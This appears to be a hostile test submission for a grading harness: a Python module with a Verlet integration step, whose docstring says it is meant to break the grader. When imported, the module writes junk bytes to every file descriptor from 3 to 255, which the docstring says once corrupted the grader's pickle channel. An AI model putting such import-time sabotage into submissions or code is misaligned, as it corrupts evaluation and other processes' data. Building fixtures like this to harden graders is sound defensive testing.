"""Hostile: writes junk to every open file descriptor at import (once: the grader's own
_pickle.UnpicklingError traceback). Now a failed import with a one-line reason."""
import os

for fd in range(3, 256):
    try:
        os.write(fd, b"junk" * 100)
    except OSError:
        pass


def verlet_step(x, x_prev, a, h, drag):
    return x + (1 - drag) * (x - x_prev) + a * h * h, x.copy()
